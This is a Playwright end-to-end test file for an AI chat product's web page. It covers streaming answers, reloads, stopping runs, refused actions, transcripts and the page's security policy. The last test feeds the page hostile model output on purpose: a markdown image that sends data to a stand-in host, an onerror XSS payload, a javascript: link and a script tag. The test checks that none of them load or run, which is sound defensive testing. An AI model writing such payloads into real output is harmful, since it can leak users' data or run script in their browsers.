import type { Locator, Page } from "playwright";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { ask, desktop, phone, sticksOut, textOf, visit } from "#/test/support/browse.ts";
import type { ScriptedReply } from "#/test/support/openai-server.ts";
import { type ScriptedProduct, startScriptedProduct } from "#/test/support/scripted-product.ts";
import { until } from "#/test/support/until.ts";

/** The page from end to end, in Chromium, with a model that says exactly what a test needs, as slowly as it needs. */
let stage: ScriptedProduct;

beforeAll(async () => {
  stage = await startScriptedProduct({ DEPUTY_MAX_TASKS: "100" });
});
afterAll(() => stage?.close());
afterEach(() => stage.model.use([]));

const plan = "ACTION: PLAN\nGOAL: Find out\nSTEPS:\n1. Look it up\n---END---\n";
const delegate = "ACTION: DELEGATE\nAGENT_TYPE: knowledge\nTASK: How are tasks delivered to workers?\n---END---\n";
const answer = "Tasks are claimed in Postgres [1].\n\nThat is all there is to say about it, said slowly. ";
const replies: ScriptedReply[] = [
  { text: plan + delegate },
  { text: `ACTION: VERIFY\nVERDICT: pass\n---END---\n${answer.repeat(3)}`, chunk: 4, delayMs: 25 },
];

const answerOf = (page: Page) => page.getByRole("article", { name: "Deputy" }).last();
const ended = (page: Page) => answerOf(page).getByRole("link", { name: "Transcript" }).waitFor();

describe.each([
  ["desktop", desktop],
  ["phone", phone],
])("the page on a %s", (_name, viewport) => {
  it("shows a run from the question to the cited answer, also after a reload in the middle of it", async () => {
    stage.model.use(replies);
    const { page, complaints, close } = await visit(stage.browser, stage.product.baseUrl, viewport);
    await ask(page, "How does it work?");
    expect(await textOf(page.getByRole("article", { name: "You" }))).toContain("How does it work?");
    await page.getByRole("group", { name: /^knowledge task/i }).waitFor();
    await answerOf(page).getByText("Tasks are claimed in Postgres").first().waitFor();
    expect(new URL(page.url()).pathname).toMatch(/^\/c\//);

    await page.reload();
    await answerOf(page).getByText("Tasks are claimed in Postgres").first().waitFor();
    await page.getByRole("button", { name: "Stop" }).waitFor();
    await ended(page);
    expect(await page.getByRole("article", { name: "You" }).count()).toBe(1);
    const text = await textOf(answerOf(page));
    expect(text.match(/That is all there is to say/g)).toHaveLength(3);
    expect(await page.getByRole("group", { name: /^knowledge task/i }).getAttribute("data-status")).toBe("completed");
    expect(await textOf(page.getByRole("list", { name: "Phases" }))).toMatch(/Learning/i);
    expect(await page.getByRole("list", { name: "Sources" }).getByRole("link").count()).toBeGreaterThan(0);
    expect(await sticksOut(page)).toBe(false);

    await page.reload();
    await ended(page);
    expect((await textOf(answerOf(page))).match(/That is all there is to say/g)).toHaveLength(3);
    expect(complaints).toEqual([]);
    await close();
  });

  it("stops a run, keeps what was written, and answers the next question", async () => {
    stage.model.use([{ text: "I could go on like this for a very long time. ".repeat(40), chunk: 5, delayMs: 40 }]);
    const { page, complaints, close } = await visit(stage.browser, stage.product.baseUrl, viewport);
    await ask(page, "Talk to me");
    await answerOf(page).getByText("I could go on like this").first().waitFor();
    await page.getByRole("button", { name: "Stop" }).click();
    await page.getByRole("button", { name: "Send" }).waitFor();
    await ended(page);
    expect(await textOf(answerOf(page))).toMatch(/stopped|cancelled/i);
    expect(await textOf(answerOf(page))).toContain("I could go on like this");

    stage.model.use([{ text: "Yes, I am here." }]);
    await ask(page, "Are you still there?");
    await page.getByText("Yes, I am here.").waitFor();
    expect(await page.getByRole("article", { name: "You" }).count()).toBe(2);
    expect(complaints).toEqual([]);
    await close();
  });

  it("shows a refused action with its reason, and why a run failed, and tries again", async () => {
    stage.model.use([{ text: delegate }, { text: delegate }, { text: delegate }]);
    const { page, close } = await visit(stage.browser, stage.product.baseUrl, viewport);
    await ask(page, "Do it");
    await answerOf(page)
      .getByText(/DELEGATE is not allowed in PLANNING/)
      .first()
      .waitFor();
    await answerOf(page)
      .getByText(/nothing but refused actions/)
      .first()
      .waitFor();
    stage.model.use([{ text: "Now it works." }]);
    await page
      .getByRole("button", { name: /try again|retry/i })
      .first()
      .click();
    await page.getByText("Now it works.").waitFor();
    expect(await page.getByRole("article", { name: "You" }).count()).toBe(1);
    await close();
  });
});

describe("the keyboard alone", () => {
  it("asks, stops, and asks again", async () => {
    stage.model.use([{ text: "A long story. ".repeat(100), chunk: 5, delayMs: 40 }]);
    const { page, close } = await visit(stage.browser, stage.product.baseUrl, desktop);
    await page.getByRole("textbox", { name: "Message" }).focus();
    await page.keyboard.type("Tell me a story");
    await page.keyboard.press("Enter");
    await answerOf(page).getByText("A long story.").first().waitFor();
    await page.keyboard.press("Escape");
    await page.getByRole("button", { name: "Send" }).waitFor();
    stage.model.use([{ text: "The end." }]);
    await page.keyboard.type("And then?");
    await page.keyboard.press("Enter");
    await page.getByText("The end.").waitFor();
    await close();
  });
});

/** Where it stands once nothing has moved it for a while. */
async function restingPlace(locator: Locator) {
  let place = await locator.boundingBox();
  let seen = 0;
  const rests = async () => {
    const now = await locator.boundingBox();
    seen = now !== null && now.y === place?.y ? seen + 1 : 0;
    place = now;
    return seen === 15;
  };
  await until(rests, { what: "a page that rests" });
  return place;
}

describe("a button that is pressed while the answer grows", () => {
  /** Presses it with the mouse, while a long answer is written below it. */
  async function pressed(find: (page: Page) => Locator) {
    const written = Promise.withResolvers<void>();
    let turns = 0;
    stage.model.use(async () => {
      turns++;
      if (turns === 1) return { text: plan + delegate + delegate };
      await written.promise;
      return { text: `ACTION: VERIFY\nVERDICT: pass\n---END---\n${"It takes room.\n\n".repeat(20)}That is the end.` };
    });
    const visited = await visit(stage.browser, stage.product.baseUrl, desktop);
    const { page } = visited;
    await ask(page, "How does it work?");
    await page.locator("[data-status=completed]").nth(1).waitFor();
    const button = find(page);
    const before = await restingPlace(button);
    await button.hover();
    await page.mouse.down();
    written.resolve();
    await page.getByText("That is the end.").waitFor();
    await ended(page);
    expect(await button.boundingBox()).toEqual(before);
    return visited;
  }

  it("stays where it is, and is clicked", async () => {
    const { page, complaints, close } = await pressed((seen) => seen.getByRole("button", { name: "Show task t2:" }));
    await page.mouse.up();
    await page.getByRole("group", { name: "knowledge task t2" }).and(page.locator(":focus")).waitFor();
    expect(complaints).toEqual([]);
    await close();
  });

  it("is clicked, and the end is followed again when that leads nowhere else", async () => {
    const { page, complaints, close } = await pressed((seen) => seen.locator("[data-status=completed] summary").last());
    await page.mouse.up();
    await page.locator("[data-status=completed] details[open]").waitFor();
    const end = page.getByText("That is the end.");
    await until(() => end.evaluate((element) => element.getBoundingClientRect().bottom < window.innerHeight), {
      what: "the end in view",
    });
    expect(complaints).toEqual([]);
    await close();
  });
});

describe("the transcript of a long run", () => {
  const tasks = Array.from({ length: 90 }, (_, n) => ({
    ref: `t${n}`,
    agent: "knowledge",
    task: `What is a lease? (${n})`,
  }));
  const rows = (page: Page) => page.getByRole("list", { name: "Events" }).getByRole("listitem");

  it("is loaded whole, and begins with 500 events for who has no JavaScript", async () => {
    const { baseUrl } = stage.product;
    const headers = { "content-type": "application/json" };
    const body = JSON.stringify({ title: "Ninety questions", tasks });
    const started = await fetch(`${baseUrl}/api/runs`, { method: "POST", headers, body });
    const { runId } = (await started.json()) as { runId: string };
    const { lastSeq } = await until(
      async () => {
        const run = (await (await fetch(`${baseUrl}/api/runs/${runId}`)).json()) as { status: string; lastSeq: number };
        return run.status === "completed" && run;
      },
      { what: "the run to end", timeoutMs: 60_000 },
    );
    expect(lastSeq).toBeGreaterThan(500);

    const { page, complaints, close } = await visit(stage.browser, `${baseUrl}/runs/${runId}`, desktop);
    await expect.poll(() => rows(page).count(), { timeout: 20_000 }).toBe(lastSeq);
    expect(await textOf(rows(page).last())).toMatch(/^\d+\+[\d.]+ sThe run was completed in /);
    expect(await page.getByText(/events are shown/).count()).toBe(0);
    expect(complaints).toEqual([]);
    await close();

    const plain = await stage.browser.newContext({ javaScriptEnabled: false });
    const unscripted = await plain.newPage();
    await unscripted.goto(`${baseUrl}/runs/${runId}`);
    expect(await rows(unscripted).count()).toBe(500);
    const records = unscripted.getByText(`500 of ${lastSeq} events are shown`).getByRole("link");
    const rest = await fetch(`${baseUrl}${await records.getAttribute("href")}`);
    expect(((await rest.json()) as { events: unknown[] }).events).toHaveLength(lastSeq - 500);
    await plain.close();
  });
});

describe("the policy of the page", () => {
  it("is not broken by its own code", async () => {
    const { page, close } = await visit(stage.browser, "about:blank", desktop);
    const broken: string[] = [];
    await page.exposeFunction("tellBroken", (what: string) => broken.push(what));
    await page.addInitScript(`addEventListener("securitypolicyviolation", (told) =>
      tellBroken([told.violatedDirective, told.blockedURI, told.sourceFile].join(" ")))`);
    stage.model.use([{ text: "I keep to it." }]);
    await page.goto(stage.product.baseUrl);
    await ask(page, "Do you?");
    await page.getByText("I keep to it.").waitFor();
    await ended(page);
    expect(broken).toEqual([]);
    await close();
  });
});

describe("a page that loads slowly", () => {
  it("keeps what was typed before its code was there, behind the draft of last time", async () => {
    stage.model.use([{ text: "I have read it all." }]);
    const { page, complaints, close } = await visit(stage.browser, stage.product.baseUrl, desktop);
    const box = page.getByRole("textbox", { name: "Message" });
    await box.fill("From last time.");
    const code = Promise.withResolvers<void>();
    await page.route("**/_next/static/**/*.js", async (route) => {
      await code.promise;
      await route.continue();
    });
    await page.reload({ waitUntil: "commit" });
    await box.pressSequentially("Typed early");
    code.resolve();
    await expect.poll(() => box.inputValue()).toBe("From last time.\n\nTyped early");
    await box.pressSequentially(", and on.");
    await page.keyboard.press("Enter");
    await page.getByText("I have read it all.").waitFor();
    expect(await textOf(page.getByRole("article", { name: "You" }))).toContain("Typed early, and on.");
    expect(complaints).toEqual([]);
    await close();
  });
});

describe("what a model writes", () => {
  it("loads nothing from elsewhere and runs nothing in the page", async () => {
    const hostile = [
      "![pixel](https://evil.test/x?d=1)",
      "<img src=https://evil.test/y onerror=alert(1)>",
      "[click](javascript:alert(1))",
      "<script>alert(1)</script>",
      "Safe end.",
    ].join("\n\n");
    stage.model.use([{ text: hostile }]);
    const { page, close } = await visit(stage.browser, stage.product.baseUrl, desktop);
    const foreign: string[] = [];
    page.on("request", (request) => {
      if (!request.url().startsWith(stage.product.baseUrl) && !request.url().startsWith("data:"))
        foreign.push(request.url());
    });
    page.on("dialog", (dialog) => {
      foreign.push(dialog.message());
      void dialog.dismiss();
    });
    await ask(page, "Be hostile");
    await page.getByText("Safe end.").waitFor();
    await ended(page);
    expect(foreign).toEqual([]);
    expect(await page.locator("a[href^='javascript:']").count()).toBe(0);
    await close();
  });
});
